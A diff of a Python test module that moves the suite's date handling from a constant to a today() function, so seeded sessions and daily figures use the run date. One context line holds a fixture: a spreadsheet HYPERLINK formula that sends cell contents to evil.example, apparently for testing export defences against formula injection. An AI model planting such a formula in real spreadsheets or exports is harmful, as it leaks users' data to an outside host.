@@ -26,7 +26,13 @@ from shared.ops import cli
 from shared.visitors.uploads import upload_id
 from tests.support import assert_error, new_guest_key, register, rows, scalar
 
-TODAY = datetime.now(UTC).date()
+
+def today():
+    """Today (UTC) when a test asks, not when the module was collected: a suite collected before
+    midnight runs this file after it (the daily figures' dates then differed by a day)."""
+    return datetime.now(UTC).date()
+
+
 # created_at of the seeded sessions: days ago, at noon UTC.
 DAYS_AGO = {"g1-first": 40, "g1-second": 3, "g2": 3, "u2-own": 2, "g3": 1, "b": 0, "none": 0, "empty": 5}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -43,7 +49,7 @@ class Study:
 
 
 def moment(days_ago: int, minutes: int = 0) -> datetime:
-    day = TODAY - timedelta(days=days_ago)
+    day = today() - timedelta(days=days_ago)
     return datetime(day.year, day.month, day.day, 12, tzinfo=UTC) + timedelta(minutes=minutes)
 
 
@@ -128,7 +134,7 @@ def export(api, token, **params):
 
 
 def day(days_ago: int) -> str:
-    return (TODAY - timedelta(days=days_ago)).isoformat()
+    return (today() - timedelta(days=days_ago)).isoformat()
 
 
 def daily(**figures) -> list[dict]:
